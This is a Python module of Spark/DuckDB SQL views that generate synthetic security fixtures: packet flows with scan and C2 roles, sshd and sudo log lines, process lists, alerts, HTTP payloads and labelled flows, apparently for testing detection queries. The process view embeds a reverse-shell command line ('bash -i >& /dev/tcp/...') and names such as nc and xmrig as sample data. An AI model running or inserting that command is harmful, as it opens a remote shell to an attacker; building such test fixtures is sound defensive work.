"""Views that give the reference shapes over the given tables (see FIXTURES.md).

One SQL text per view, valid in Spark and in DuckDB, so a query and its check read
the same rows.
"""

from __future__ import annotations

from pyspark.sql import DataFrame, SparkSession

VIEWS = {
    # B1
    "fx_packets": (
        "events",
        """
        with e as (select event_id, user_id % 12 u, cast(regexp_extract(props,'([0-9]+)',1) as int) k, event_type et,
          cast(round(value*100) as bigint) % 1460 + 40 len, cast(floor(event_id/500) as bigint) % 4 sc,
          1700000000000000 + event_id*5000 + cast(floor(event_id/500) as bigint)*90000000 ts_us,
          event_type in ('view','error') bwd from events),
        r as (select *, case when sc=1 and u<4 then 'scan' when sc=2 and u<10 then 'syn'
           when sc=3 and k<20 then 'c2' when sc=3 and k<40 then 'dns' when sc=3 and k<60 then 'icmp' when sc=3 and k<80 then 'sens' else 'web' end role from e),
        p as (select event_id seq, ts_us, role,
          case role when 'scan' then '10.0.0.99' when 'syn' then '172.16.0.1' when 'c2' then '10.0.0.55' when 'icmp' then '10.0.0.88' when 'dns' then '192.168.1.'||cast(200+u as string) else '192.168.1.'||cast(10+u as string) end a,
          case role when 'scan' then '192.168.1.1' when 'syn' then '192.168.1.100' when 'c2' then '192.168.1.50' when 'icmp' then '192.168.1.'||cast(1+k%20 as string) when 'dns' then '1.2.3.4' else '8.8.8.8' end b,
          case role when 'scan' then 60000 when 'syn' then 10000+event_id%500 when 'icmp' then 0 else 50000+k%8 end ap,
          case role when 'scan' then 1+event_id%120 when 'syn' then 80 when 'c2' then 4444 when 'dns' then 53 when 'icmp' then 0 when 'sens' then case when k%2=0 then 22 else 3389 end else 443 end bp,
          case role when 'dns' then 17 when 'icmp' then 1 else 6 end protocol,
          case when role in ('web','sens') then case et when 'click' then 'S' when 'view' then 'SA' when 'purchase' then 'A' when 'signup' then 'FA' else 'RA' end when role in ('dns','icmp') then '' else 'S' end flags,
          case when role='dns' then case when bwd then 4096 else 50 end else len end length,
          role in ('web','dns','sens') and bwd sw from r)
        select seq, ts_us, role, case when sw then b else a end src_ip, case when sw then a else b end dst_ip, case when sw then bp else ap end src_port, case when sw then ap else bp end dst_port, protocol, flags, length from p
        """,
    ),
    # B2
    "fx_log_lines": (
        "events",
        """
        with e as (select event_id, event_type et, user_id % 12 u, cast(regexp_extract(props,'([0-9]+)',1) as int) k, cast(floor(event_id/4) as bigint) sec from events),
        t as (select *, 'Jun '||lpad(cast(1+cast(floor(sec/86400) as bigint) as string),2,' ')||' '||lpad(cast(cast(floor(sec/3600) as bigint)%24 as string),2,'0')||':'||lpad(cast(cast(floor(sec/60) as bigint)%60 as string),2,'0')||':'||lpad(cast(sec%60 as string),2,'0')||' host'||cast(u%3 as string) hd, '['||cast(1000+event_id%9000 as string)||']: ' pid from e)
        select event_id line_no, case et
         when 'error' then hd||' sshd'||pid||'Failed password for '||case when k%3=0 then 'invalid user admin' else 'root' end||' from 203.0.113.'||cast(u as string)||' port 22 ssh2'
         when 'click' then hd||' sshd'||pid||'Accepted password for user'||cast(u as string)||' from 10.0.0.'||cast(u as string)||' port 22 ssh2'
         when 'purchase' then hd||' sudo'||pid||'  user'||cast(u as string)||' : '||case when k%4=0 then 'authentication failure ; USER=root' else 'TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/bash' end
         when 'signup' then case when k%2=0 then hd||' useradd'||pid||'new user: name=u'||cast(k as string)||', UID=1001' else hd||' userdel'||pid||'delete user ''u'||cast(k as string)||'''' end
         else hd||' kernel: eth0: renamed from veth'||cast(k as string) end line from t
        """,
    ),
    # B3
    "fx_files": (
        "documents",
        """
        select case doc_id%4 when 0 then '/etc/hosts' when 1 then '/usr/bin/' when 2 then '/etc/app/' else '/opt/' end||cast(doc_id as string) path, text old_body,
         case when doc_id%11=0 then text||'x' else text end new_body, doc_id%13<>0 in_old, doc_id%17<>0 in_new from documents
        """,
    ),
    # B4
    "fx_processes": (
        "events",
        """
        select cast(floor(event_id/250) as bigint) scan_no, 'host'||cast(user_id%3 as string) host, event_id%400 pid, (event_id*7)%400 ppid,
         case cast(regexp_extract(props,'([0-9]+)',1) as int)%10 when 0 then 'nginx' when 1 then 'bash' when 2 then 'sh' when 3 then 'java' when 4 then 'nc' when 5 then 'xmrig' else 'worker' end name,
         case when event_type='error' then 'bash -i >& /dev/tcp/1.2.3.4/9001' else 'run '||event_type end cmdline from events
        """,
    ),
    # B5
    "fx_alerts": (
        "events",
        """
        select event_id id, 1700000000 + cast(floor(event_id/2) as bigint) + cast(floor(event_id/500) as bigint)*90 ts_s,
         case when user_id%4=0 then 'HOST' else 'NETWORK' end alert_type,
         case event_type when 'error' then 'CRITICAL' when 'purchase' then 'HIGH' when 'signup' then 'MEDIUM' else 'LOW' end severity,
         case when event_id%50=0 then '' when event_id%53=0 then null else '10.0.0.'||cast(user_id%12 as string) end src_ip,
         '192.168.1.'||cast(event_id%2 as string) dst_ip, case event_id%2 when 0 then 22 else 4444 end dst_port,
         'rule '||event_type||' from sensor '||cast(user_id%3 as string)||' with a tail past fifty characters '||cast(event_id as string) description,
         case event_type when 'error' then 'PORT_SCAN' when 'purchase' then 'SYN_FLOOD' when 'signup' then 'AUTH_FAIL' else 'SUDO' end event_type,
         round(value/500, 3) confidence from events
        """,
    ),
    # B6
    "fx_scored": (
        "events",
        """
        select event_id flow_id, case when event_type='error' then 1 else 0 end label,
         cast((event_id*37 + case when event_type='error' then 450 else 0 end)%1000 as double)/1000 if_score,
         cast((event_id*91)%600 + case when event_type='error' then 390 else 0 end as double)/1000 rf_score,
         case when event_id%29=0 then null else cast((event_id*53 + case when event_type='error' then 300 else 0 end)%1000 as double)/1000 end ae_score from events
        """,
    ),
    # B7
    "fx_http": (
        "events",
        """
        select event_id seq, case when user_id%5=0 then '8.8.4.4' else '10.1.0.'||cast(user_id%12 as string) end src_ip,
         case event_type when 'click' then 'GET / HTTP/1.1'||chr(13)||chr(10)||'User-Agent: Mozilla/5.0 (Windows NT 10.0)'||chr(13)||chr(10)
          when 'signup' then 'POST /login HTTP/1.1'||chr(13)||chr(10)||chr(13)||chr(10)||'username=jane.doe'||cast(user_id%2 as string)||'&pw=x'
          when 'view' then 'GET / HTTP/1.1'||chr(13)||chr(10)||'Authorization: Basic dXNlcjE6cHc='||chr(13)||chr(10) else 'noise' end payload from events
        """,
    ),
    # B9
    "fx_dhcp": (
        "events",
        """
        select event_id seq, user_id % 40 u, case when event_type in ('click','view') then '0.0.0.0' else '10.2.0.1' end src_ip,
         case when event_type in ('click','view') or user_id % 40 = 7 then '00000000' else '0a0200'||lpad(hex(10 + user_id % 40), 2, '0') end yiaddr,
         '0a0b0c0d0e'||lpad(hex(user_id % 40), 2, '0') mac, 'PC-'||cast(user_id % 40 as string)||case event_type when 'view' then 'b' else '' end hostname from events
        """,
    ),
    # B10
    "fx_names": (
        "events",
        """
        select event_id seq, user_id % 40 u, event_type et, '10.3.0.'||cast(user_id % 40 as string) host,
         'PC-'||cast(user_id % 40 as string)||case when event_id % 3 = 0 then 'X' else '' end pc,
         case when event_id % 5 = 0 then 'krbtgt' else 'u'||cast(event_id % 9 as string)||'.k'||cast(user_id % 40 as string) end account,
         'n'||cast(user_id % 40 as string) login, case event_id % 4 when 0 then 'Jane Doe' when 1 then 'R2D2' else 'Zoë '||substr('Miller', 1, cast(3 + event_id % 3 as int)) end full_name,
         event_id % 2 = 0 long_form from events
        """,
    ),
    # B8
    "fx_labelled": (
        "lineitem",
        """
        select '10.0.'||cast(l_suppkey%4 as string)||'.'||cast(l_suppkey%50 as string) src_ip, '172.16.0.'||cast(l_partkey%40 as string) dst_ip,
         case l_partkey%7 when 0 then 22 when 1 then 80 when 2 then 443 when 3 then 4444 when 4 then 53 when 5 then 3389 else 50000 end dst_port,
         case l_linenumber%4 when 0 then 1 when 1 then 17 else 6 end protocol,
         cast(l_quantity as bigint) fwd_packets, cast(floor(l_quantity/2) as bigint) bwd_packets, cast(round(l_extendedprice) as bigint) fwd_bytes, cast(round(l_extendedprice*l_discount) as bigint) bwd_bytes,
         case when l_partkey%97=0 then cast('Infinity' as double) when l_partkey%89=0 then cast('NaN' as double) else l_extendedprice/l_quantity end flow_bytes_s,
         case when l_suppkey%61=0 then null when l_returnflag='R' then case l_linenumber%3 when 0 then 'DDoS' when 1 then 'PortScan' else 'SSH-Patator' end else 'BENIGN' end label from lineitem
        """,
    ),
}


def view(spark: SparkSession, sf_dir: str, name: str) -> DataFrame:
    """The view as a DataFrame over the parquet table under ``sf_dir``."""
    table, text = VIEWS[name]
    return spark.sql(text.replace(f"from {table}", "from {source}"), source=spark.read.parquet(f"{sf_dir}/{table}.parquet"))


def with_views(*names: str) -> str:
    """The views as leading CTEs of a DuckDB text."""
    return ",\n".join(f"{n} as ({VIEWS[n][1]})" for n in names)
